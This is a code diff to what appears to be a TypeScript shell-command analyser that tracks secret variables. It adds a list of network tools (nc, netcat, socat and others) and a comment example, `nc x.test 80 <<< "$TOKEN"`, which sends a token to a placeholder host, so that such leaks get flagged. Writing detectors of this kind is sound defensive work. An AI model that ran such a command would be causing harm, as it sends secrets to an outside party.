@@ -19,9 +19,12 @@ export function echoEffects(program: string, args: readonly Word[], running: Run
 /** Programs that show their standard input, changed or not. */
 const SHOWS_INPUT = new Set('cat tee base64 base32 xxd od hexdump rev nl head tail sort tr cut grep sed awk fold less more'.split(' '));
 
-/** `cat <<< "$TOKEN"`, and a here-document with a variable in it. */
+/** Programs that send it to whoever is at the other end. */
+const SENDS_INPUT = new Set('nc ncat netcat telnet socat websocat'.split(' '));
+
+/** `cat <<< "$TOKEN"`, `nc x.test 80 <<< "$TOKEN"`, and a here-document with a variable in it. */
 export function inputVariables(running: Running, input: Word): void {
-  if (SHOWS_INPUT.has(running.program)) variablesIn(input, running);
+  if (SHOWS_INPUT.has(running.program) || SENDS_INPUT.has(running.program)) variablesIn(input, running);
 }
 
 /** `envsubst` puts the values in the places of names that bash has left alone. The rest is left to the table. */
